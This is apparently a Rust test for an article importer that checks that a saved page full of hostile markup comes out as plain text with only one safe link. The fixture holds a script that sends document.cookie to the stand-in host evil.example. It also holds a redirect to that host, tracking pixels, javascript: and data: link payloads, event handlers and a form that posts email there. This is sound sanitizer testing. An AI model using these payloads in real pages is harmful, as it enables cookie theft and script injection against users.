//! A saved page full of hostile markup becomes text and safe links only: nothing of its
//! scripts, handlers, frames, forms or styles survives into the article, and its links keep
//! only web and mail addresses.

use reader_import::article_file::article_file;

const HOSTILE: &str = r#"<!doctype html><html lang="en"><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<title>What the council decided about the bridge | The Paper</title>
<meta name="author" content="A. Writer">
<meta property="article:published_time" content="2026-11-30T10:00:00Z">
<script>fetch("https://evil.example/steal?" + document.cookie)</script>
<style>body { background: url(https://evil.example/track.png) }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
</head><body onload="alert('load')">
<nav><a href="/">Home</a><a href="/subscribe">Subscribe</a></nav>
<article>
<h1>What the council decided about the bridge</h1>
<p onclick="alert('click')">The council voted on Tuesday to repair the old bridge rather than build a new one, after a long evening of debate.<script>alert('inline')</script></p>
<p>Residents who <a href="javascript:alert('link')">wrote to the council</a> were thanked, and the <a href=" JaVaScRiPt:alert(1)">minutes</a> and <a href="data:text/html,<script>alert(2)</script>">the plan</a> were promised; <a href="https://paper.example/bridge">the full report</a> is online.</p>
<p>The vote was <iframe src="https://evil.example/frame"></iframe>close: <img src="https://evil.example/pixel.gif" srcset="https://evil.example/a.png 2x" onerror="alert('img')" alt="">seven to five.
<svg><script>alert('svg')</script><a href="javascript:alert(3)"><text>svg link</text></a></svg></p>
<form action="https://evil.example/post"><input name="email" value="Your email"><button>Sign up</button></form>
<p>Work starts in the spring and should take <object data="https://evil.example/x.swf"></object>about a year, the council said.</p>
</article>
<footer>Share · Comments (12) · Donate</footer>
</body></html>"#;

#[test]
fn a_hostile_page_gives_text_and_safe_links_only() {
    let text = reader_import::extract(HOSTILE, Some("https://paper.example/bridge"))
        .expect("an article")
        .paragraphs
        .join("\n");
    assert!(text.starts_with("The council voted on Tuesday"), "{text}");
    assert!(text.contains("seven to five"), "{text}");
    for bad in [
        "alert",
        "fetch(",
        "evil.example",
        "Subscribe",
        "Sign up",
        "Donate",
        "background",
    ] {
        assert!(!text.contains(bad), "{bad:?} in {text}");
    }

    let file = article_file(HOSTILE, Some("https://paper.example/bridge"), &|_| None)
        .expect("an article file");
    let images = std::env::temp_dir();
    let article =
        reader_core::pipeline::parse_article(std::path::Path::new("x.md"), &file.text, &images)
            .unwrap_or_else(|e| panic!("{e:?}\n{}", file.text));
    let runs: Vec<_> = article.blocks.iter().flat_map(|b| &b.runs).collect();
    let links: Vec<&str> = runs.iter().filter_map(|r| r.link.as_deref()).collect();
    assert_eq!(links, ["https://paper.example/bridge"], "{}", file.text);
    let words: String = runs.iter().map(|r| r.text.as_str()).collect();
    assert!(
        words.contains("wrote to the council") && words.contains("the full report"),
        "{words}"
    );
    for bad in ["alert", "evil.example", "Sign up", "<script", "javascript"] {
        assert!(
            !words.to_lowercase().contains(&bad.to_lowercase()),
            "{bad:?} in {words}"
        );
    }
}
